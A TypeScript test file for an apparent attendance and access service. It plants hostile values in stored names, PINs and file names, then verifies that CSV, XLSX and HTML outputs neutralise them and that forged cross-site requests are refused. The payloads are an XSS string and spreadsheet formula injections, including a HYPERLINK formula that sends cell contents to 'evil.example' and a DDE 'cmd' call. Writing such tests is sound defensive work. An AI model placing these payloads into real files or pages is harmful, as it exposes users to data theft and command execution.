import { parse } from 'csv-parse/sync';
import { Workbook } from 'exceljs';
import { allRoutes } from '../../../src/cli/permissions-page';
import { type DeclaredRoute } from '../../../src/platform/auth/route-rule';
import { subjectKinds, type SubjectKind } from '../../../src/platform/auth/subjects';
import { AccessOffice, namings } from './access-office';

/** What people, devices and files can call themselves: markup that would run, and text that a spreadsheet would compute. */
const markup = '"><img src=x onerror="alert(1)"><script>alert(1)</script>';
const formulas = ['=HYPERLINK("http://evil.example/"&A1)', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-2+3+cmd', '\t=1+1', ' =1+1', '＝1+1'];
/** Columns that somebody outside the service writes. */
const written: readonly (readonly [table: string, ...columns: string[]])[] = [
  ['employee', 'name', 'job_title'],
  ['unit', 'name'],
  ['terminal', 'name'],
  ['door_sensor', 'name', 'door'],
  ['enrolment', 'pin'],
  ['punch', 'pin'],
  ['quarantined_punch', 'pin', 'reason'],
  ['request', 'letter', 'reason'],
  ['request_attachment', 'file_name'],
  ['discipline_paper', 'file_name'],
  ['case_document', 'title', 'number'],
  ['rejected_record', 'reason'],
  ['violation_decision', 'reason'],
  ['user_account', 'name'],
  ['complaint', 'words'],
];

/** What the narrower of these columns hold, in characters. */
const longest: Readonly<Record<string, number>> = { pin: 24, door: 64 };

/** Reports with a query of their own. */
const reports = ['/api/v1/reports/monthly-recap?month=2026-11', '/api/v1/allowance?month=2026-11', '/api/v1/reports/daily?date=2026-11-23', '/api/v1/reports/year-account?year=2026', '/api/v1/reports/terminals?month=2026-11', '/api/v1/reports/employee-sheet/e-a?month=2026-11'];

let office: AccessOffice;
let reads: DeclaredRoute[];
let sheets: readonly string[];

beforeAll(async () => {
  office = await AccessOffice.open();
  await office.furnish();
  await office.hire();
  reads = (await allRoutes()).filter(({ method, path }) => method === 'GET' && path !== '/api/v1/live' && path !== '/api/v1/oidc/start');
  sheets = [...reads.filter(({ path }) => path.startsWith('/api/v1/')).map(addressOf), ...reports];
});
afterAll(() => office.close());

/** Writes a text of one's own into every column that takes one; each row gets the next text and stays apart from its sister. */
async function write(texts: readonly string[]): Promise<void> {
  let next = 0;
  for (const [table, ...columns] of written) {
    for (const column of columns) {
      const rows = await office.database.query<{ text: string | null }>(`SELECT DISTINCT ${column} AS text FROM ${table}`);
      for (const { text } of rows) {
        // The end tells the rows apart where a key is made of the column.
        const hostile = `${texts[next % texts.length] ?? ''}${table === 'punch' || table === 'enrolment' || table === 'quarantined_punch' ? '' : ` of ${table}`}${text ?? ''}`.slice(0, longest[column] ?? 200);
        next += 1;
        await office.database.transaction((tx) => tx.execute(`UPDATE ${table} SET ${column} = ? WHERE ${text === null ? `${column} IS NULL` : `${column} = ?`}`, text === null ? [hostile] : [hostile, text]));
      }
    }
  }
}

const addressOf = (route: DeclaredRoute): string => {
  const naming = Object.hasOwn(subjectKinds, route.rule.subject) ? namings[route.rule.subject as SubjectKind]('a') : {};
  const path = route.path.replace(/\{(\w+)\}/g, (_, name: string) => encodeURIComponent(naming.params?.[name] ?? 'x'));
  return `${path}${naming.query ? `?${naming.query}` : ''}`;
};
const withFormat = (address: string, format: string): string => `${address}${address.includes('?') ? '&' : '?'}format=${format}`;

async function fileOf(address: string): Promise<{ readonly status: number; readonly type: string; readonly content: Buffer }> {
  const response = await fetch(`${await office.app.getUrl()}${address}`, { headers: { Cookie: office.browsers.get('administrator.city')?.cookie ?? '' }, redirect: 'manual' });
  return { status: response.status, type: response.headers.get('content-type') ?? '', content: Buffer.from(await response.arrayBuffer()) };
}

/** A text that a spreadsheet would compute; a plain number is one. */
const computes = (cell: string): boolean => /^[\s\ufeff]*[=+\-@＝＋－＠\t\r]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell);

describe('formulas as names, pins and file names', () => {
  beforeAll(() => write(formulas));

  it('are text in every CSV that leaves the service', async () => {
    const wrong: string[] = [];
    const hostile: string[] = [];
    for (const address of sheets) {
      const { status, type, content } = await fileOf(withFormat(address, 'csv'));
      if (status !== 200 || !type.startsWith('text/csv')) continue;
      const rows = parse(content, { bom: true, relaxColumnCount: true });
      for (const cell of rows.flat()) if (computes(cell)) wrong.push(`${address}: ${cell}`);
      if (rows.flat().some((cell) => formulas.some((formula) => cell.includes(formula.trim())))) hostile.push(address);
    }
    expect(wrong).toEqual([]);
    // The texts did get in, else nothing was shown.
    expect(hostile).toEqual(expect.arrayContaining(['/api/v1/employees', '/api/v1/requests', '/api/v1/cases', '/api/v1/terminals', '/api/v1/users', '/api/v1/units', '/api/v1/enrolments', '/api/v1/punches', '/api/v1/violations', '/api/v1/door-sensors', '/api/v1/reports/monthly-recap?month=2026-11']));
  }, 180_000);

  it('are strings in every spreadsheet, never formulas', async () => {
    const wrong: string[] = [];
    const hostile: string[] = [];
    for (const address of sheets) {
      const { status, type, content } = await fileOf(withFormat(address, 'xlsx'));
      if (status !== 200 || !type.includes('spreadsheetml')) continue;
      const book = new Workbook();
      await book.xlsx.load(content as unknown as Parameters<typeof book.xlsx.load>[0]);
      book.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (cell.formula || cell.hyperlink || (typeof cell.value === 'object' && cell.value !== null && !(cell.value instanceof Date) && !('richText' in cell.value))) wrong.push(`${address}: ${cell.text}`);
            if (formulas.some((formula) => cell.text.includes(formula.trim()))) hostile.push(address);
          }),
        ),
      );
    }
    expect(wrong).toEqual([]);
    const wanted = ['/api/v1/employees', '/api/v1/requests', '/api/v1/cases', '/api/v1/users', ...reports.filter((address) => /recap|terminals/.test(address))];
    expect(wanted.filter((address) => !hostile.includes(address))).toEqual([]);
  }, 180_000);
});

describe('markup as names, pins and file names', () => {
  beforeAll(async () => {
    await office.furnish();
    await write([markup]);
  });

  it('is in no HTML of ours as markup, and what is not HTML cannot be taken for it', async () => {
    const wrong: string[] = [];
    let [pages, hostile] = [0, 0];
    for (const plain of [...reads.map(addressOf), ...reports]) {
      for (const address of [plain, withFormat(plain, 'html')]) {
        const response = await fetch(`${await office.app.getUrl()}${address}`, { headers: { Cookie: office.browsers.get('administrator.city')?.cookie ?? '' }, redirect: 'manual' });
        const [type, text] = [response.headers.get('content-type') ?? '', await response.text()];
        if (text.includes('onerror=')) hostile += 1;
        if (!type.startsWith('text/html')) {
          if (text.includes('<img') && response.headers.get('x-content-type-options') !== 'nosniff') wrong.push(`${address}: no nosniff`);
          continue;
        }
        pages += 1;
        if (/<img src=x|<script>alert/.test(text)) wrong.push(`${address}: markup`);
        if (/<script(?![^>]*\bsrc=)|\son\w+="/.test(text.replace(/&[a-z#0-9]+;/g, ' '))) wrong.push(`${address}: script inside the page`);
        const policy = response.headers.get('content-security-policy') ?? '';
        if (!/(script-src 'self'|script-src 'none'|default-src 'none')/.test(policy) || /script-src[^;]*unsafe/.test(policy)) wrong.push(`${address}: policy "${policy}"`);
      }
    }
    expect(wrong).toEqual([]);
    expect([pages > 3, hostile > 15]).toEqual([true, true]);
  }, 180_000);
});

describe('requests that another site makes a browser send', () => {
  it('are refused on every route that changes something and knows its caller by the cookie', async () => {
    const changes = (await allRoutes()).filter(({ method, path, rule }) => !['GET', 'HEAD'].includes(method) && path.startsWith('/api/v1/') && rule.permission !== 'open');
    const { cookie } = office.browsers.get('administrator.city') ?? { cookie: '' };
    const wrong: string[] = [];
    for (const route of changes) {
      const address = addressOf(route);
      const forged: readonly Readonly<Record<string, string>>[] = [{ 'Content-Type': 'text/plain' }, { 'Content-Type': 'application/x-www-form-urlencoded', 'X-CSRF-Token': 'x' }, { 'Content-Type': 'application/json', Origin: 'https://evil.example', 'Sec-Fetch-Site': 'cross-site' }];
      for (const headers of forged) {
        const response = await fetch(`${await office.app.getUrl()}${address}`, { method: route.method, headers: { Cookie: cookie, ...headers }, body: '{}' });
        if (!(await response.text()).includes('urn:hadir:forged-request')) wrong.push(`${route.method} ${route.path} ${headers['Content-Type']}: ${response.status}`);
      }
    }
    expect(wrong).toEqual([]);
    expect(changes.length).toBeGreaterThan(80);
  }, 120_000);
});
